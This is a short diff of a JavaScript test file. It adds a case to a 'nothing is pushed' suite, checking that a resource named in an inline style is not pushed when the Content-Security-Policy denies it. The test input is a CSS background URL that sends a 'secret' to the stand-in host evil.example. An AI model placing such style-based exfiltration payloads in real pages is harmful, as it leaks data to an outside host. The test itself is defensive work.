@@ -267,6 +267,11 @@ describe("nothing is pushed", () => {
       {},
     ],
     [
+      "what a style attribute says that the policy denies",
+      "<p style='background:url(https://evil.example/?secret)'>",
+      { headers: [["content-security-policy", "style-src 'self'"]] },
+    ],
+    [
       "a document without an origin",
       "<img src=a>",
       { headers: [["content-security-policy", "sandbox allow-scripts"]] },
